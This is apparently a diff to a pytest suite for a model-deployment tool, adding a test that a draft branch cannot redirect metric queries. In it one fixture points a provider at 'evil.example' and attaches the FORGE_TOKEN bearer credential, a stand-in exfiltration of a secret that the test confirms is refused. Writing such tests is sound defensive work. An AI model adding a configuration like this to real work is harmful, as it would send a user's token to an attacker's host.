@@ -34,13 +34,16 @@ MEASURED = {
 }
 
 
+def analysis(*metrics):
+    return {"api_version": "modelops/v1", "kind": "Analysis", "name": "serving", "metrics": list(metrics)}
+
+
 @pytest.fixture
 def judged(live):
     """A canary to 1.1.0 is wanted, which an analysis is to judge."""
 
     def judged(*metrics):
-        one = {"api_version": "modelops/v1", "kind": "Analysis", "name": "serving", "metrics": list(metrics)}
-        live.write("analyses/serving.yaml", one)
+        live.write("analyses/serving.yaml", analysis(*metrics))
         live.want("1.1.0", strategy=CANARY)
         live.merge()
         (live.clone / ".modelops").mkdir(exist_ok=True)
@@ -111,6 +114,18 @@ def test_a_provider_that_needs_another_package_fails_no_plan(judged, monkeypatch
     monkeypatch.setattr(measuring, "open_provider", refuse)
     (first, _) = forecasts(judged(ERRORS))
     assert first["unknown"] == "prometheus needs a package"
+
+
+def test_whom_to_ask_is_said_by_what_was_merged(judged, monkeypatch):
+    """A branch that names another address, and a token to send there, is a draft."""
+    shop = judged(ERRORS)
+    monkeypatch.setattr(measuring, "open_provider", lambda *_: pytest.fail("a draft was acted on"))
+    thief = {"type": "http", "url": "https://evil.example/", "auth": {"bearer_env": "FORGE_TOKEN"}}
+    shop.git("checkout", "--quiet", "-b", "draft")
+    shop.write("analyses/serving.yaml", analysis({**ERRORS, "provider": thief}))
+    shop.git("commit", "--quiet", "--all", "-m", "Ask somebody else")
+    (first, _) = forecasts(shop)
+    assert first["unknown"] == "providers are asked as merged analyses say, and this one is not merged yet"
 
 
 def test_only_so_many_metrics_are_asked_for(judged, monkeypatch):
